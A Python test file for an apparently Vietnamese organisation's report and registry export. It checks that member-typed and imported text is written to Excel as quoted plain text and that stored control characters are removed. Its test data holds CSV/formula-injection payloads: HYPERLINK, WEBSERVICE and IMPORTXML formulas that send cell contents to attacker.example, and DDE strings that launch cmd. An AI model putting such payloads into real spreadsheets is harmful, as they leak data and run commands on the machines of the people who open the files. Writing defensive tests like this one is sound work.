"""What members type and what the registry imports reaches the report and the registry export as plain text: never a
live formula, and a control character (typed, pasted or stored before it was refused) cannot stop a file being built."""

from __future__ import annotations

from docx import Document
from openpyxl import load_workbook
from sqlalchemy import select

from models.db import Database
from models.difficulties import Difficulty
from models.nominees import Nominee
from models.organisations import Transfer
from models.registry import Enterprise
from models.registry_io import export_enterprises, import_enterprises, read_table
from models.visits import Visit
from reports.build import build_report
from reports.periods import half_year_period, parse_period
from tests.reports.conftest import HEADING, NOW, TODAY, TZ, build_scenario

# What an attacker would type: a link that sends the neighbouring cells away, a DDE command, and the other starts
# of a formula spreadsheet programs know.
HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&C2&D2,"Bấm để xem chi tiết")'
DDE = "=cmd|' /C calc'!A0"
TYPED = {
    "difficulty description": HYPERLINK,
    "difficulty proposal": "+WEBSERVICE(\"http://attacker.example/\"&A2)",
    "visit met position": "-2+3+cmd|' /C calc'!A0",
    "visit next step": "@SUM(1+1)*cmd|' /C calc'!A0",
    "transfer from": "=1+1",
    "transfer to": "\t=HYPERLINK(\"http://attacker.example\")",
    "nominee position": "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A2),\"//a\")",
    "enterprise name": DDE,
    "difficulty error value": "#N/A",
}


def every_cell(path):
    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def store(database: Database, rules, texts: dict[str, str]) -> int:
    """The scenario, with `texts` put in the fields members type (as if typed, or stored before any check).
    Returns the coordinator's member id."""
    with database.session() as session:
        scenario = build_scenario(session, rules)
        difficulties = session.scalars(select(Difficulty).order_by(Difficulty.id)).all()
        difficulties[1].description = texts["difficulty description"]
        difficulties[1].proposal = texts["difficulty proposal"]
        difficulties[2].description = texts["difficulty error value"]
        visit = session.scalars(select(Visit).order_by(Visit.visited_on.desc()).limit(1)).one()
        visit.met_position, visit.next_step = texts["visit met position"], texts["visit next step"]
        transfer = session.scalars(select(Transfer).order_by(Transfer.id).limit(1)).one()
        transfer.from_org, transfer.to_org = texts["transfer from"], texts["transfer to"]
        for nominee in session.scalars(select(Nominee)):
            nominee.position = texts["nominee position"]
        session.scalars(select(Enterprise).order_by(Enterprise.id).limit(1)).one().name = texts["enterprise name"]
        return scenario.coordinator.id


def build(database: Database, rules, tmp_path, coordinator_id: int):
    with database.read_session() as session:
        period = parse_period(session, half_year_period(2022, 1).code, today=TODAY)
    return build_report(database, period, HEADING, tmp_path / "out", rules=rules, tz=TZ, now=NOW,
                        named_by=coordinator_id)


def test_typed_text_reaches_the_report_workbook_as_text_never_as_a_formula(database, rules, tmp_path):
    files = build(database, rules, tmp_path, store(database, rules, TYPED))
    cells = every_cell(files.xlsx)
    assert [cell.coordinate for cell in cells if cell.data_type in ("f", "e")] == []
    by_value = {}
    for cell in cells:
        by_value.setdefault(cell.value, cell)
    for field, typed in TYPED.items():
        assert typed in by_value, f"{field} is missing from the workbook"
        assert by_value[typed].data_type == "s" and by_value[typed].quotePrefix, field
    # The named list (nominees' positions) is among them: the coordinator asked for it.
    assert files.named


def test_an_imported_enterprise_name_is_exported_as_text_and_imported_back_as_it_was(session, tmp_path):
    source = tmp_path / "dn.csv"
    source.write_text(f'Tên doanh nghiệp,Mã số thuế,Địa chỉ\n"{DDE}",0600999001,"+84 Lô A1"\n', encoding="utf-8")
    assert import_enterprises(session, source).written
    out = tmp_path / "export.xlsx"
    export_enterprises(session, out)
    cells = every_cell(out)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert {cell.value for cell in cells if cell.quotePrefix} == {DDE, "+84 Lô A1"}
    again = import_enterprises(session, out)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 1)
    assert read_table(out).rows[0].values["name"] == DDE


def test_control_characters_stored_in_the_database_do_not_stop_the_report_or_the_export(database, rules, tmp_path):
    """Stored before input was cleaned (or by a path that does not clean): the writers drop what a file cannot hold."""
    texts = {field: f"Giám đốc nói:\nlương\x0bthấp, nợ\x01{number}" for number, field in enumerate(TYPED)}
    texts["enterprise name"] = "Công ty\x01 ABC\x1f"
    files = build(database, rules, tmp_path, store(database, rules, texts))
    values = {cell.value for cell in every_cell(files.xlsx)}
    assert "Giám đốc nói:\nlươngthấp, nợ0" in values and "Công ty ABC" in values
    document = "\n".join(paragraph.text for paragraph in Document(str(files.docx)).paragraphs)
    assert "Công ty ABC" in document   # the enterprise may found a party organisation: the draft names it
    assert "\x01" not in document and "\x0b" not in document
    with database.session() as session:
        assert export_enterprises(session, tmp_path / "export.xlsx") == 4
    assert "Công ty ABC" in {cell.value for cell in every_cell(tmp_path / "export.xlsx")}
